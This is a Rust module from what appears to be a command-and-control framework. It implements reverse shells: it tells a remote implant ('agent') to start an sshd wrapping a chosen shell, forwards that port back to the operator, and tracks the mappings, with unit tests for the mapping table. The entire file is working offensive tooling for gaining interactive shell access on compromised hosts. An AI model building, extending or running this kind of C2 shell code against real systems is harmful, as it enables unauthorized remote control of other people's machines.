//! Reverse shells via on-agent sshd.
//!
//! The agent starts an sshd bound to `127.0.0.1:<port>` wrapping the chosen
//! shell; we open a port forward to it and the operator runs
//! `ssh -p <lport> 127.0.0.1`. One agent-side port per (agent, shell): asking
//! for a shell that is already mapped reuses the mapping, and asking for a
//! port another shell holds re-binds to a fresh random port.

use std::time::Duration;

use dashmap::DashMap;

use crate::agents::C2_CMD_SSHD;
use crate::net::portfwd::{random_port, run_port_fwd};
use crate::server::Cc;
use crate::{C2Error, Result};

/// How long to wait for sshd to come up on the agent
const SSHD_WAIT: Duration = Duration::from_secs(10);

#[derive(Debug, Clone)]
pub struct SshdMapping {
    pub shell: String,
    pub agent_tag: String,
    /// Agent-side sshd port
    pub to_port: u16,
    /// Local port the operator connects to
    pub lport: u16,
    pub session_id: String,
}

#[derive(Default)]
pub struct SshdTable {
    map: DashMap<(String, String), SshdMapping>,
}

impl SshdTable {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn get(&self, agent_tag: &str, shell: &str) -> Option<SshdMapping> {
        self.map
            .get(&(agent_tag.to_string(), shell.to_string()))
            .map(|e| e.value().clone())
    }

    pub fn insert(&self, mapping: SshdMapping) {
        self.map
            .insert((mapping.agent_tag.clone(), mapping.shell.clone()), mapping);
    }

    pub fn remove(&self, agent_tag: &str, shell: &str) {
        self.map.remove(&(agent_tag.to_string(), shell.to_string()));
    }

    /// Which shell, if any, holds `port` on this agent
    pub fn shell_on_port(&self, agent_tag: &str, port: u16) -> Option<String> {
        self.map
            .iter()
            .find(|e| e.value().agent_tag == agent_tag && e.value().to_port == port)
            .map(|e| e.value().shell.clone())
    }
}

/// Ensure an sshd shell is reachable for `agent_tag`; returns the local port
/// to `ssh` into. Repeated calls with the same shell reuse the mapping and
/// send no second sshd request.
pub async fn start_sshd_shell(
    cc: &Cc,
    agent_tag: &str,
    shell: &str,
    args: &str,
    port: u16,
) -> Result<u16> {
    if let Some(existing) = cc.sshd.get(agent_tag, shell) {
        tracing::info!(
            "sshd ({shell}) already mapped on {agent_tag}, reusing local port {}",
            existing.lport
        );
        return Ok(existing.lport);
    }

    // one port per shell: a different shell on the requested port forces a
    // fresh random port
    let mut port = port;
    if let Some(holder) = cc.sshd.shell_on_port(agent_tag, port) {
        if holder != shell {
            let fresh = random_port();
            tracing::warn!(
                "port {port} has {holder} shell on it, restarting with a different port {fresh}"
            );
            port = fresh;
        }
    }

    let args = if args.is_empty() { "--" } else { args };
    let cmd = format!("{C2_CMD_SSHD} --shell {shell} --port {port} --args {args}");
    let cmd_id = crate::tunnel::send_cmd(cc, &cmd, "", agent_tag).await?;

    let res = cc.commands.await_result(&cmd_id, SSHD_WAIT).await;
    cc.commands.discard(&cmd_id);
    let res = res?;

    let bind_in_use = format!("listen tcp 127.0.0.1:{port}: bind: address already in use");
    if !res.contains("success") && !res.contains(&bind_in_use) {
        return Err(C2Error::Protocol(format!("start sshd ({shell}) failed: {res}")));
    }

    let to = format!("127.0.0.1:{port}");
    let session = run_port_fwd(cc, agent_tag, &to, 0, &format!("ssh shell ({shell})")).await?;

    cc.sshd.insert(SshdMapping {
        shell: shell.to_string(),
        agent_tag: agent_tag.to_string(),
        to_port: port,
        lport: session.lport,
        session_id: session.id.clone(),
    });
    tracing::info!(
        "sshd ({shell}) on {agent_tag}: ssh -p {} 127.0.0.1",
        session.lport
    );
    Ok(session.lport)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mapping(agent: &str, shell: &str, to_port: u16) -> SshdMapping {
        SshdMapping {
            shell: shell.to_string(),
            agent_tag: agent.to_string(),
            to_port,
            lport: 3000,
            session_id: "s".to_string(),
        }
    }

    #[test]
    fn one_port_per_shell() {
        let table = SshdTable::new();
        table.insert(mapping("a1", "bash", 22222));

        assert_eq!(table.shell_on_port("a1", 22222).unwrap(), "bash");
        assert!(table.shell_on_port("a1", 22223).is_none());
        assert!(table.shell_on_port("a2", 22222).is_none());
    }

    #[test]
    fn mapping_is_per_agent_and_shell() {
        let table = SshdTable::new();
        table.insert(mapping("a1", "bash", 22222));
        table.insert(mapping("a1", "zsh", 22223));
        table.insert(mapping("a2", "bash", 22222));

        assert!(table.get("a1", "bash").is_some());
        assert!(table.get("a1", "zsh").is_some());
        assert!(table.get("a2", "zsh").is_none());

        table.remove("a1", "bash");
        assert!(table.get("a1", "bash").is_none());
        assert!(table.get("a2", "bash").is_some());
    }
}
